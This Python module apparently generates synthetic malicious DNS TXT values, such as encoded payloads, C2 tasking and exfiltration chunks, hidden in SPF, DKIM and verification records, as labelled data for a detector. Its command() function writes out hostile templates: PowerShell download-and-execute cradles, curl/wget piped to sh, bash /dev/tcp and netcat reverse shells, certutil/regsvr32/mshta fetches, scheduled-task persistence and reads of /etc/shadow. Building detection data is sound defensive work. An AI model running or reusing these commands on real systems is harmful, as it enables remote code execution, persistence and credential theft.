"""Payloads, commands and tunnel answers: what an attacker puts into a TXT value, bare or inside a known form.

`suspicious` returns the value and the span of the payload in it, so that a long carrier is labelled by the window that
holds the payload. Nothing here is working malware: contents are headers, commands with invented names, and noise.
"""

import base64
import gzip
import json
import string
import zlib

from benign import ALNUM, B64URL, HEX, b64, benign, host, ip4, name, pick, sentence, spf, spf_term, token, uuid, verification

MAGIC = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\0" * 7, b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x03\x00>\x00",
         b"PK\x03\x04\x14\x00\x00\x00\x08\x00", b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03", b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n",
         b"7z\xbc\xaf\x27\x1c", b"\xfc\xe8\x82\x00\x00\x00\x60\x89\xe5", b"\xfc\x48\x83\xe4\xf0\xe8", b"\xca\xfe\xba\xbe")


def command(r):
    u, f = f"http{r.choice(('', 's'))}://{r.choice((host(r), ip4(r)))}/{name(r)}", f"{name(r)}.{r.choice(('exe', 'ps1', 'dll', 'bat', 'vbs', 'sh', 'txt', 'hta'))}"
    return r.choice((
        f"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('{u}/{f}')\"",
        f"powershell.exe -ExecutionPolicy Bypass -EncodedCommand {base64.b64encode(sentence(r).encode('utf-16-le')).decode()}",
        f"$c='';1..{r.randrange(2, 40)}|%{{$c+=(nslookup -q=txt $_.{host(r)})}};iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($c)))",
        f"cmd /c {r.choice(('whoami', 'ipconfig /all', 'net user', 'tasklist', 'systeminfo', 'dir c:' + chr(92) + name(r), 'net group admins /domain'))} > %TEMP%\\{f}",
        f"curl -s {u}/{f} | {r.choice(('sh', 'bash', 'python3'))}", f"wget -qO- {u} | sh; rm -rf /tmp/{name(r)}",
        f"bash -i >& /dev/tcp/{ip4(r)}/{r.randrange(1024, 65535)} 0>&1", f"nc -e /bin/sh {ip4(r)} {r.randrange(1024, 65535)}",
        f"python3 -c 'import os,base64;exec(base64.b64decode(\"{b64(r, r.randint(20, 90))}\"))'",
        f"certutil -urlcache -split -f {u}/{f} %TEMP%\\{f} & start %TEMP%\\{f}", f"rundll32.exe {f},{name(r)} {u}",
        f"mshta {u}/{f}", f"regsvr32 /s /n /u /i:{u}/{f} scrobj.dll", f"schtasks /create /tn {name(r)} /tr {f} /sc minute /mo {r.randrange(1, 60)}",
        f"exec {name(r)} {r.randrange(9999)}; sleep {r.randrange(600)}; upload /etc/{r.choice(('passwd', 'shadow', 'hosts'))}",
        f"{r.choice(('cmd', 'exec', 'run', 'shell', 'task', 'do'))}{r.choice(':=|')}{r.choice(('whoami', 'id', 'ls -la', 'uname -a', 'download ' + u, 'kill', 'screenshot', 'hostname', 'ps aux', 'cat /etc/passwd', 'sleep 60'))}",
        f"<script>{name(r)}(atob('{b64(r, r.randint(20, 80))}'))</script>", f"var {name(r)}=new ActiveXObject('WScript.Shell');{name(r)}.Run('{f}')",
        f"[System.Reflection.Assembly]::Load([Convert]::FromBase64String('{b64(r, r.randint(30, 200))}'))"))


def output(r):
    return r.choice((
        lambda: "\n".join(f"{r.choice('d-')}rwxr-xr-x {r.randrange(9)} root root {r.randrange(10**6)} Jan {r.randrange(28)} 10:{r.randrange(60):02} {name(r)}" for _ in range(r.randint(1, 12))),
        lambda: f"uid=0(root) gid=0(root) groups=0(root)\nLinux {name(r)} 5.{r.randrange(20)}.0-{r.randrange(99)}-generic x86_64",
        lambda: "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\nContent-Length: " + str(r.randrange(9000)) + "\r\n\r\n<!DOCTYPE html><html>" + sentence(r, 5, 40),
        lambda: f"SSH-2.0-OpenSSH_{r.randrange(6, 10)}.{r.randrange(9)}p1\r\n", lambda: f"GET /{name(r)} HTTP/1.1\r\nHost: {host(r)}\r\n\r\n",
        lambda: json.dumps({name(r): r.choice((name(r), r.randrange(999), token(r))) for _ in range(r.randint(2, 8))}),
        lambda: "".join(f"{ip4(r)}\t{name(r)}\t{token(r)}\n" for _ in range(r.randint(1, 9))),
        lambda: f"username={name(r)}&password={pick(r, ALNUM, r.randint(6, 14))}&host={name(r)}", lambda: " ".join(sentence(r) for _ in range(r.randint(1, 8))),
        lambda: "-----BEGIN OPENSSH PRIVATE KEY-----\n" + b64(r, r.randint(60, 700))))()


def content(r, size) -> bytes:
    """The bytes an attacker moves: mostly encrypted or compressed, else as they are."""
    k = r.random()
    if k < .40: return r.randbytes(size)
    if k < .52: return r.choice(MAGIC) + r.randbytes(size)
    if k < .60: return gzip.compress(output(r).encode(), mtime=0) if r.random() < .5 else zlib.compress(command(r).encode())
    if k < .72: return command(r).encode()
    if k < .80: return command(r).encode("utf-16-le")
    if k < .88: return (output(r).encode() * (size // 40 + 1))[:max(size, 12)]
    if k < .93: return _xor(output(r).encode()[:max(size, 12)], r.randrange(1, 256))
    header = r.randbytes(r.randint(1, 4)) + bytes([1, r.randrange(4)]) + r.randbytes(r.choice((2, 4, 8)))
    return header + (b"\0" * r.randint(0, 6)) + r.randbytes(size)


def _xor(data, key):
    return bytes(b ^ key for b in data)


def _radix(data, alphabet):
    value, out = int.from_bytes(b"\1" + data, "big"), []
    while value:
        value, digit = divmod(value, len(alphabet))
        out.append(alphabet[digit])
    return "".join(out)


def _base128(r, data):
    high = bytes(range(0xBC, 0xFE))
    alphabet = (ALNUM.encode() + high)[:128]
    return bytes(alphabet[b & 127] for b in data)


def encode(r, data: bytes) -> bytes:
    """One of the encodings that tunnels, stagers and implants use; every one whole or cut, padded or not."""
    k = r.randrange(20)
    if k < 4: text = data.hex() if r.random() < .75 else data.hex().upper()
    elif k < 9: text = base64.b64encode(data).decode()
    elif k < 11: text = base64.urlsafe_b64encode(data).decode()
    elif k < 13: text = base64.b32encode(data).decode() if r.random() < .4 else base64.b32encode(data).decode().lower()
    elif k == 13: return bytes(data)
    elif k == 14: return _base128(r, data)
    elif k == 15: text = base64.b85encode(data).decode() if r.random() < .6 else base64.a85encode(data).decode()
    elif k == 16: text = r.choice((",", " ", "", "-")).join(str(b) for b in data[:200])
    elif k == 17: text = "".join(r.choice(("%{:02x}", "%{:02X}", "\\x{:02x}")).format(b) for b in data[:160])
    elif k == 18: text = _radix(data[:400], r.choice((string.ascii_lowercase + string.digits, ALNUM, "abcdefghijklmnop", B64URL)))
    else: text = base64.b64encode(data).decode()[::-1]
    cut = r.random()
    if cut < .35: text = text.rstrip("=")
    elif cut < .5: text = text[:max(8, len(text) - r.randint(0, 3))]
    return text.encode()


def size(r):
    k = r.random()
    if k < .30: return r.randint(9, 40)
    if k < .60: return r.randint(24, 110)
    if k < .85: return r.randint(90, 260)
    return r.randint(200, 1800)


def payload(r, small=False) -> bytes:
    n = r.randint(10, 110) if small else size(r)
    if r.random() < .10: return command(r).encode()
    body = encode(r, content(r, n))
    if small: body = body[:r.randint(24, 180)]
    return body


def framed(r) -> bytes:
    """A bare payload with what tools put around it: counters, tags, delimiters, JSON, groups."""
    body, i, n = payload(r), r.randrange(200), r.randrange(2, 400)
    k = r.randrange(30)
    if k < 14: return body
    if k == 14: return f"{i}/{n}:".encode() + body
    if k == 15: return f"{i:04d}".encode() + body
    if k == 16: return f"{r.choice(('stage', 'chunk', 'part', 'seq', 'data', 'id', 'd', 'm', 'p'))}{r.choice(('', str(i)))}{r.choice(':=|,;')}".encode() + body
    if k == 17: return b"@" + body + b"@"
    if k == 18: return b'{"' + name(r)[:3].encode() + b'":"' + body + b'"}'
    if k == 19: return f"{i:x}.{pick(r, HEX, 8)}.".encode() + body
    if k == 20: return pick(r, string.ascii_letters, 1).encode() + body
    if k == 21: g = r.choice((4, 8, 16, 32)); return r.choice((b" ", b".", b"-", b":", b",")).join(body[j:j + g] for j in range(0, len(body), g))
    if k == 22: return body + r.choice((b"|", b"EOF", b"<<<", b"##", b";END", b"0"))
    if k == 23: return f"t={r.choice(('task', 'ping', 'ack', 'file', 'cmd'))};id={r.randrange(10**6)};d=".encode() + body
    if k == 24: return f"{pick(r, ALNUM, r.randint(1, 6))}{r.choice('-_.')}{i}{r.choice('-_.')}".encode() + body
    if k == 25: return b"<" + name(r).encode() + b">" + body + b"</" + name(r).encode() + b">"
    return body


def carrier_term(r, p: str):
    """One known form around a payload. Never the exact shape of a valid token, which nobody could tell."""
    k = r.randrange(30)
    if k < 3: return f"v=spf1 {r.choice(('include', 'a', 'mx', 'exists', 'ip4', 'redirect', 'ptr', 'exp'))}{r.choice(':=')}", p, r.choice((" ~all", " -all", f" {spf_term(r)} -all", f".{host(r)} ~all", ""))
    if k == 3: return "v=spf1 ", p, r.choice((" -all", " ~all", f" include:{host(r)} ~all"))
    if k == 4: return "", p, r.choice((" v=spf1 -all", " v=spf1 ~all", f" {spf(r)}"))
    if k == 5: return f"{spf(r)} ", p, ""
    if k < 9: return f"{r.choice(('google', 'facebook', name(r), 'apple', 'ms', 'atlassian'))}-{r.choice(('site', 'domain'))}-verification{r.choice('=:')}", p, ""
    if k == 9: return f"MS={r.choice(('', 'ms'))}", p, ""
    if k < 12: return f"v=DKIM1; {r.choice(('k=rsa; ', '', 'k=ed25519; ', 't=s; k=rsa; '))}p=", p, r.choice(("", ";", "; t=s"))
    if k == 12: return "v=DKIM1; k=rsa; n=", p, f"; p={b64(r, 96)}"
    if k == 13: return f"v=DMARC1; p={r.choice(('none', 'reject'))}; rua=mailto:", p, r.choice((f"@{host(r)}", f"@{host(r)}; pct=100", ""))
    if k == 14: return "v=DMARC1; p=", p, "; sp=none"
    if k == 15: return r.choice((f"v=STSv1; id=", "v=TLSRPTv1; rua=mailto:", f"v=BIMI1; l=https://{host(r)}/")), p, r.choice(("", ";", ".svg", f"@{host(r)}"))
    if k == 16: return f"https://{host(r)}/{r.choice(('', '?id=', '?q=', name(r) + '/', '#'))}", p, r.choice(("", ".html", f"&v={r.randrange(99)}"))
    if k == 17: return f"dnslink=/ipfs/", p, ""
    if k == 18: return f"heritage=external-dns,external-dns/owner={name(r)},external-dns/resource=ingress/", p, ""
    if k == 19: return f"{r.randrange(400000)} | {ip4(r)}/24 | US | arin | ", p, ""
    if k == 20: return f"{sentence(r, 2, 9)} ", p, f" {sentence(r, 2, 6)}"
    if k == 21: return f"{name(r)}={name(r)}; {name(r)}=", p, f"; {name(r)}={r.randrange(99)}"
    if k == 22: return f"txtvers=1 {name(r)}=", p, f" note={name(r)}"
    if k == 23: return r.choice(("keybase-site-verification=", "openpgp4fpr:", "did=did:plc:", "_globalsign-domain-verification=", "protonmail-verification=", "_acme-challenge=")), p, ""
    if k == 24: return f"{verification(r)} ", p, ""
    if k == 25: return "", p, f" {verification(r)}"
    if k == 26: return f"{uuid(r)} ", p, ""
    if k == 27: return f"contact {name(r)}@{host(r)} ref ", p, ""
    if k == 28: return f"version={r.randrange(9)}.{r.randrange(9)};url=https://{host(r)}/", p, f";crc={pick(r, HEX, 8)}"
    return f"{name(r)}-{r.choice(('key', 'token', 'code'))}{r.choice('=:_-')}", p, ""


def disguised(r):
    """(value, start, end): a payload inside a known form, or as a term of its own in a long ordinary record."""
    body = payload(r, small=True).decode("latin-1").replace("\n", " ")
    if r.random() < .15:
        groups = r.choice((5, 8, 12, 16))
        body = r.choice((" ", ".", "-", "/")).join(body[j:j + groups] for j in range(0, len(body), groups))
    if r.random() < .22:
        parts = [p for p in (r.choice((lambda: spf(r), lambda: benign(r).decode("utf-8", "replace"), lambda: " ".join(sentence(r, 8, 20) for _ in range(9)))))().split(" ")]
        while sum(map(len, parts)) < r.choice((0, 300, 1000)):
            parts += [spf_term(r) if r.random() < .5 else name(r) for _ in range(12)]
        at = r.choice((0, len(parts), r.randrange(len(parts) + 1)))
        before, after = " ".join(parts[:at]), " ".join(parts[at:])
        before += " " if before else ""
        after = " " + after if after else ""
    else:
        before, body, after = carrier_term(r, body)
    start = before.encode("utf-8", "surrogateescape")
    middle = body.encode("latin-1", "replace")
    return start + middle + after.encode("utf-8", "surrogateescape"), len(start), len(start) + len(middle)


def suspicious(r):
    """(value, start, end) of one bare payload."""
    value = framed(r)
    return value, 0, len(value)
